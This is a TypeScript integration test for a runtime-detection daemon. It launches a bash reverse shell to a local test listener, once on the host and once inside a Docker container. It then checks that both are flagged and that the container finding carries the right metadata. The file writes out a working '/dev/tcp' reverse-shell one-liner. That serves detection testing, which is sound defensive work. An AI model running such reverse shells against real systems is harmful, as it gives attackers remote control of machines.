/**
 * A reverse shell in a docker container, found by the daemon on the host with the container's
 * full id, its runtime and the name docker gave it, beside a shell on the host that has none.
 * Debian's docker.io (bash scripts/setup.sh --dev); the test starts its own dockerd when none
 * answers (no bridge, no iptables: the containers use the host's network) and imports the
 * image's minimal root filesystem (packaging/container/rootfs.sh), so no registry is needed.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import net from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { inCI, kernelTier, run, startDaemon, type Daemon } from "./harness.js";

const tier = kernelTier();
const hasDocker = spawnSync("docker", ["--version"]).status === 0 && spawnSync("dockerd", ["--version"]).status === 0;
if (tier.run && !hasDocker && inCI) throw new Error("docker test: docker.io is missing in CI (bash scripts/setup.sh --dev installs it)");
if (tier.run && !hasDocker) console.warn("docker test skipped: docker.io not installed (bash scripts/setup.sh --dev)");

const IMAGE = "localhost/sockeye-test-rootfs:docker-test";

describe.runIf(tier.run && hasDocker)("kernel: a reverse shell in a docker container", () => {
  const work = mkdtempSync(join(tmpdir(), "sockeye-docker-"));
  let dockerd: ChildProcess | undefined;
  let daemon: Daemon | undefined;

  beforeAll(async () => {
    if (spawnSync("docker", ["info"], { stdio: "ignore" }).status !== 0) {
      dockerd = spawn("dockerd", ["--iptables=false", "--ip6tables=false", "--bridge=none"], { stdio: ["ignore", "ignore", "pipe"] });
      let log = "";
      dockerd.stderr!.on("data", (d) => (log = (log + d).slice(-4000)));
      const deadline = Date.now() + 60_000;
      while (spawnSync("docker", ["info"], { stdio: "ignore" }).status !== 0) {
        if (dockerd.exitCode !== null || Date.now() > deadline) throw new Error(`dockerd did not start: ${log.trim().split("\n").pop()}`);
        await new Promise((r) => setTimeout(r, 250));
      }
    }
    const codename = /VERSION_CODENAME=(\w+)/.exec(readFileSync("/etc/os-release", "utf8"))?.[1] ?? "bookworm";
    const rootfs = spawnSync("bash", ["packaging/container/rootfs.sh", `/var/cache/sockeye-image/rootfs-${codename}`], { encoding: "utf8" });
    expect(rootfs.status, rootfs.stderr).toBe(0);
    const imported = spawnSync("bash", ["-c", `tar -C "$1" -c . | docker import - "$2"`, "import", rootfs.stdout.trim(), IMAGE], { encoding: "utf8" });
    expect(imported.status, imported.stderr).toBe(0);
  }, 420_000);

  afterAll(async () => {
    if (daemon?.child.exitCode === null) daemon.child.kill("SIGKILL");
    spawnSync("docker", ["rmi", "-f", IMAGE], { stdio: "ignore" });
    if (dockerd !== undefined && dockerd.exitCode === null) {
      dockerd.kill("SIGTERM");
      await new Promise((r) => dockerd!.once("exit", r));
    }
    rmSync(work, { recursive: true, force: true });
  }, 60_000);

  it("finds it with the container's full id, runtime and name; the host's shell has none", async () => {
    daemon = startDaemon(["--stats-interval", "0"]);
    await daemon.ready;

    // The host's shell exits at once; the container's is held until its finding is in.
    const sockets = new Set<net.Socket>();
    let hold = false;
    const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); if (!hold) s.end("exit\n"); });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    const port = (server.address() as net.AddressInfo).port;
    const shell = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
    const onHost = await run("bash", ["-c", `exec ${shell}`]);
    hold = true;
    const name = `sockeye-docker-test-${process.pid}`;
    const cidFile = join(work, "shell.cid");
    const inContainer = run("docker", ["run", "--rm", "--network", "host", "--cidfile", cidFile, "--name", name, IMAGE, "/bin/bash", "-c", shell]);

    type Finding = { rule: { id: string }; destination?: { port: number }; process: { pid: number };
      container?: { id: string; runtime: string; name?: string; image?: { name: string } }; sockeye: { ns_pid?: number } };
    const findings = () => daemon!.findings().map((f) => f.finding as Finding).filter((f) => f.destination?.port === port);
    const until = Date.now() + 30_000;
    while (findings().length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
    for (const s of sockets) s.end("exit\n");
    const containerShell = await inContainer;
    expect(containerShell.status, containerShell.stderr).toBe(0);
    const containerId = readFileSync(cidFile, "utf8").trim();
    expect(containerId).toMatch(/^[0-9a-f]{64}$/);

    expect(findings().map((f) => f.rule.id)).toEqual(["TRC-101", "TRC-101"]);
    expect(findings().find((f) => f.process.pid === onHost.pid)!.container).toBeUndefined();
    const inside = findings().find((f) => f.process.pid !== onHost.pid)!;
    expect(inside.container).toEqual({ id: containerId, runtime: "docker", name, image: { name: IMAGE } });
    expect(inside.sockeye.ns_pid).toBeLessThan(10);
    server.close();
    expect(await daemon.stop()).toBe(0);
  }, 120_000);
});
